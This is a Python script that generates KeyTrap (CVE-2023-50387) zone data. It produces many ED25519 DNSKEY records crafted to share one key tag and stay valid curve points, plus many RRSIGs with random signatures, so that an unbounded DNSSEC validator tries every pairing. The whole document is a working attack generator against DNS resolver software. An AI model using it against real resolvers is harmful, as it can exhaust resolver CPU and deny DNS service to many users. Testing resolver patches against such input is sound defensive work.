"""A KeyTrap zone's parts (CVE-2023-50387): many keys of one key tag, and
many RRSIGs that name it, so that a validator with no bound tries each
RRSIG with each key.

    dnssec-keytrap.py KEYFILE NKEYS NSIGS OWNER KEYS_OUT SIGS_OUT

KEYFILE is an ED25519 zone key as ldns-keygen writes it (NAME.key).  Writes
NKEYS other ED25519 DNSKEY records of its zone with its key tag to
KEYS_OUT, each a valid curve point (so that a check does its whole work),
and NSIGS RRSIGs over OWNER's A RRset by that tag, each with a random
signature, to SIGS_OUT.
"""
import base64
import os
import random
import sys

keyfile, nkeys, nsigs, owner, keys_out, sigs_out = sys.argv[1:7]
nkeys, nsigs = int(nkeys), int(nsigs)
f = open(keyfile).read().split()
zone, pub = f[0], bytearray(base64.b64decode("".join(f[6:])))

P = 2 ** 255 - 19
D = (-121665 * pow(121666, P - 2, P)) % P


def on_curve(b):
    """RFC 8032 5.1.3: y decodes to a point when x^2 is a square."""
    y = int.from_bytes(b, "little") & ((1 << 255) - 1)
    if y >= P:
        return False
    x2 = (y * y - 1) * pow(D * y * y + 1, P - 2, P) % P
    return x2 == 0 or pow(x2, (P - 1) // 2, P) == 1


def tag(rdata):
    """RFC 4034 appendix B."""
    ac = sum(b << 8 if i % 2 == 0 else b for i, b in enumerate(rdata))
    return (ac + (ac >> 16)) & 0xffff


head = bytes([1, 0, 3, 15])		# flags 256, protocol 3, ED25519
want = tag(head + bytes(pub))
seen = {bytes(pub)}
random.seed(4035)
with open(keys_out, "w") as out:
    n = 0
    while n < nkeys:
        k = bytearray(pub)
        # the same sum on the even and on the odd bytes: the same tag
        j = random.randrange(0, len(k) - 3)
        d = random.randrange(1, 40)
        if k[j] + d > 255 or k[j + 2] < d:
            continue
        k[j] += d
        k[j + 2] -= d
        if bytes(k) in seen or not on_curve(k):
            continue
        assert tag(head + bytes(k)) == want
        seen.add(bytes(k))
        pub = k
        out.write("%s 300 IN DNSKEY 256 3 15 %s\n" %
                  (zone, base64.b64encode(bytes(k)).decode()))
        n += 1
with open(sigs_out, "w") as out:
    labels = len([l for l in owner.split(".") if l])
    for _ in range(nsigs):
        out.write("%s 300 IN RRSIG A 15 %d 300 20360101000000 "
                  "20200101000000 %d %s %s\n" %
                  (owner, labels, want, zone,
                   base64.b64encode(os.urandom(64)).decode()))
